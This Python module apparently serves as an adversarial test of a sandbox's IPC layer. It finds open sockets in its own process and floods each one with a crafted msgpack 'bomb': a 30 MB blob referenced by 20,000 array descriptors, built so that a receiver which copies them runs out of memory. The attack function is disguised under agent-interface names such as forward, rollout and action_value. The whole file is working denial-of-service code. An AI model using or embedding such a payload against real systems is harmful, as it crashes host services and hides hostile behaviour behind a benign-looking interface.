"""Sends 30 MB once and thousands of arrays that all refer to it: terabytes, if they were copied."""

import os
import stat

import msgspec
from inside.wire import HEADER


def sockets():
    found = []
    for number in range(3, 64):
        try:
            found += [number] if stat.S_ISSOCK(os.fstat(number).st_mode) else []
        except OSError:
            continue
    return found


def frame(message, blob=b""):
    structure = msgspec.msgpack.encode(message)
    return HEADER.pack(len(structure), len(blob)) + structure + blob


SIZE = 30 << 20
MANY = [[3, "uint8", [SIZE], 0, SIZE]] * 20_000
BOMB = frame([0, "return", [0, *MANY]], bytes(SIZE))


def wrong(*args, **kwargs):
    for number in sockets():
        data = memoryview(BOMB)
        while data:
            data = data[os.write(number, data) :]
    return 0.0


action_value = gains = state_value = backward = forward = rollout = wrong
